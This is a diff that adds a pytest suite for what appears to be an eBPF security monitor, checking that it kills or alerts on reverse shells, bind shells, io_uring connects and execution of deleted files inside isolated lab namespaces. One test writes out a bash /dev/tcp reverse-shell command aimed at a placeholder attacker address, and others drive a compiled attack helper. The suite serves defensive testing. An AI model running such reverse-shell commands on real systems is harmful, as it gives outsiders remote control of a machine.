@@ -1,0 +1,185 @@
+"""Prevention before the first byte (issue 12): reverse and bind shells, io_uring connects and
+nameless executables are stopped by the kernel itself (bpf_send_signal at the hook), and the
+attacker's listener - a network-namespace test host, never a real interface - receives 0
+bytes. Each workload runs in its own watched cgroup, in the lab's fake container namespace."""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import subprocess
+import sys
+import threading
+from pathlib import Path
+
+import pytest
+
+from coi_sentinel.events import model
+from coi_sentinel.pipeline import Pipeline
+
+from support import require_bpf
+
+pytestmark = pytest.mark.bpf
+
+PROGRAMS = Path(__file__).with_name("programs")
+ATTACKER_IP = "203.0.113.7"
+VICTIM_IP = "198.51.100.2"          # netlab.CONTAINER4
+
+
+@pytest.fixture(scope="module")
+def attack(tmp_path_factory) -> str:
+    require_bpf()
+    if shutil.which("gcc") is None:
+        pytest.skip("needs gcc to build tests/bpf/programs/attack.c")
+    exe = tmp_path_factory.mktemp("attack") / "attack"
+    subprocess.run(["gcc", "-O2", "-o", str(exe), str(PROGRAMS / "attack.c")], check=True)
+    return str(exe)
+
+
+@pytest.fixture
+def lab():
+    require_bpf()
+    from netlab import Lab
+
+    if shutil.which("ip") is None or shutil.which("nsenter") is None:
+        pytest.skip("needs ip (iproute2) and nsenter (util-linux) for the network-namespace hosts")
+    lab = Lab().start()
+    try:
+        lab.add_host("attacker", v4=ATTACKER_IP)
+        yield lab
+    finally:
+        assert lab.close() == []
+
+
+def in_container(lab, argv: list[str]) -> list[str]:
+    """argv run in the lab's fake container namespace (nsenter execs: no extra process)."""
+    return ["nsenter", f"--net=/run/netns/{lab.container_ns}", *argv]
+
+
+class Attacker:
+    """attacker.py in the test host: a listener for reverse shells, a client for bind shells."""
+
+    def __init__(self, lab, mode: str, ip: str, port: int, seconds: float = 8) -> None:
+        ns = lab.hosts["attacker"].ns
+        self.p = subprocess.Popen(["ip", "netns", "exec", ns, sys.executable, str(PROGRAMS / "attacker.py"),
+                                   mode, ip, str(port), str(seconds)],
+                                  stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+        lab.procs.append(self.p)
+        if mode == "listen":
+            line = self.p.stdout.readline()
+            assert line.strip() == "ready", self.p.stderr.read()
+
+    def result(self) -> dict:
+        out, err = self.p.communicate(timeout=30)
+        return json.loads(out.strip().splitlines()[-1])
+
+
+def alerts_of(events: list) -> list:
+    """The bundled rules over the events the probes sent (in stream order)."""
+    from coi_sentinel.rules import Engine, load_ruleset
+
+    pipeline = Pipeline()
+    found: list = []
+    pipeline.add_sink(Engine(load_ruleset(None), on_alert=found.append, table=pipeline.table))
+    for ev in events:
+        pipeline.feed(ev)
+    return found
+
+
+def died_of_sigkill(run, pid: int) -> bool:
+    return any(e.signal == 9 for e in run.of(model.ExitEvent, pid=pid))
+
+
+SHELL_KILL = {"shell_socket": True}
+
+
+def test_reverse_shell_killed_at_exec_listener_gets_zero_bytes(watched, attack, lab):
+    attacker = Attacker(lab, "listen", ATTACKER_IP, 4444)
+    run = watched.run(in_container(lab, [attack, "connect", ATTACKER_IP, "4444"]), kill_policy=SHELL_KILL)
+    got = attacker.result()
+    assert got == {"connected": True, "received": 0}
+    shells = run.of(model.ExecEvent, filename="/bin/sh")
+    assert len(shells) == 1 and shells[0].killed and shells[0].stdio_socket
+    assert died_of_sigkill(run, shells[0].pid)
+    assert watched.probes.kill_counts().get("shell_socket", 0) >= 1
+
+
+def test_bash_dev_tcp_reverse_shell_killed_at_the_dup(watched, lab):
+    bash = shutil.which("bash")
+    if bash is None:
+        pytest.skip("needs bash")
+    attacker = Attacker(lab, "listen", ATTACKER_IP, 4445)
+    run = watched.run(in_container(lab, [bash, "-c", f"bash -i >& /dev/tcp/{ATTACKER_IP}/4445 0>&1"]),
+                      kill_policy=SHELL_KILL)
+    assert attacker.result() == {"connected": True, "received": 0}
+    killed = [d for d in run.of(model.DupEvent) if d.killed]
+    assert len(killed) == 1 and killed[0].is_socket and killed[0].daddr == ATTACKER_IP
+    assert died_of_sigkill(run, killed[0].pid)
+
+
+def test_reverse_shell_without_the_policy_is_alerted(watched, attack, lab):
+    """The same shell in a scope without the kill policy: the kernel flags it, the rules alert
+    (the control for the two tests above: the listener does get the prompt here)."""
+    attacker = Attacker(lab, "listen", ATTACKER_IP, 4446)
+    run = watched.run(in_container(lab, [attack, "connect", ATTACKER_IP, "4446"]), stdin=b"exit\n")
+    got = attacker.result()
+    assert got["connected"] and got["received"] > 0
+    shells = run.of(model.ExecEvent, filename="/bin/sh")
+    assert len(shells) == 1 and shells[0].stdio_socket and not shells[0].killed
+    rules = {a.rule for a in alerts_of(run.events)}
+    assert {"reverse_shell_socket_dup", "reverse_shell_exec_socket_stdio"} <= rules
+
+
+def test_bind_shell_accepted_socket_is_a_socket_on_stdio(watched, attack, lab):
+    client = Attacker(lab, "connect", VICTIM_IP, 5555)
+    run = watched.run(in_container(lab, [attack, "bind", "5555"]), kill_policy=SHELL_KILL)
+    assert client.result() == {"connected": True, "received": 0}
+    binds = run.of(model.BindEvent, lport=5555)
+    assert len(binds) == 1 and binds[0].all_interfaces and binds[0].errno == 0
+    listens = run.of(model.ListenEvent, lport=5555)
+    assert len(listens) == 1 and listens[0].all_interfaces
+    accepts = run.of(model.AcceptEvent, daddr=ATTACKER_IP)
+    assert len(accepts) == 1 and accepts[0].fd >= 0 and not accepts[0].local_addr
+    dups = [d for d in run.of(model.DupEvent) if d.pid == accepts[0].pid]
+    assert [d.newfd for d in dups] == [0, 1, 2] and all(d.is_socket for d in dups)
+    shells = run.of(model.ExecEvent, filename="/bin/sh")
+    assert len(shells) == 1 and shells[0].killed and died_of_sigkill(run, shells[0].pid)
+    assert "reverse_shell_socket_dup" in {a.rule for a in alerts_of(run.events)}
+
+
+def test_io_uring_reverse_shell_killed_at_submission(watched, attack, lab):
+    attacker = Attacker(lab, "listen", ATTACKER_IP, 4447)
+    run = watched.run(in_container(lab, [attack, "uring", ATTACKER_IP, "4447"]),
+                      kill_policy={"uring_connect": True, "shell_socket": True})
+    assert attacker.result()["received"] == 0
+    assert run.returncode == -9
+    connects = run.of(model.UringEvent, op="connect")
+    assert len(connects) == 1 and connects[0].killed and connects[0].pid == run.pid
+    assert not run.of(model.ExecEvent, filename="/bin/sh")
+    assert watched.probes.kill_counts().get("uring_connect", 0) >= 1
+
+
+def test_io_uring_file_write_is_seen(watched, attack, tmp_path):
+    target = tmp_path / "via-uring.txt"
+    run = watched.run([attack, "uring-write", str(target), "hello through the ring"])
+    assert run.returncode == 0, run.stderr
+    assert target.read_text() == "hello through the ring"
+    ops = {e.op for e in run.of(model.UringEvent, pid=run.pid)}
+    assert {"openat", "write"} <= ops
+    setup = run.of(model.PrivEvent, op="io_uring_setup")
+    assert len(setup) == 1
+
+
+@pytest.mark.parametrize("mode", ["unlinked", "tmpfile"])
+def test_exec_of_a_nameless_file_is_alerted_and_killed(watched, attack, tmp_path, mode):
+    arg = str(tmp_path / "dropper.bin") if mode == "unlinked" else str(tmp_path)
+    run = watched.run([attack, mode, arg])
+    assert run.returncode == 0, run.stderr         # the payload (sleep 1) ran
+    execs = [e for e in run.of(model.ExecEvent, pid=run.pid) if e.argv[:1] == ("payload",)]
+    assert len(execs) == 1 and execs[0].deleted and execs[0].via_fd
+    assert "exec_deleted_file" in {a.rule for a in alerts_of(run.events)}
+    killed = watched.run([attack, mode, arg], kill_policy={"unlinked_exec": True})
+    assert killed.returncode == -9
+    execs = [e for e in killed.of(model.ExecEvent, pid=killed.pid) if e.argv[:1] == ("payload",)]
+    assert len(execs) == 1 and execs[0].killed
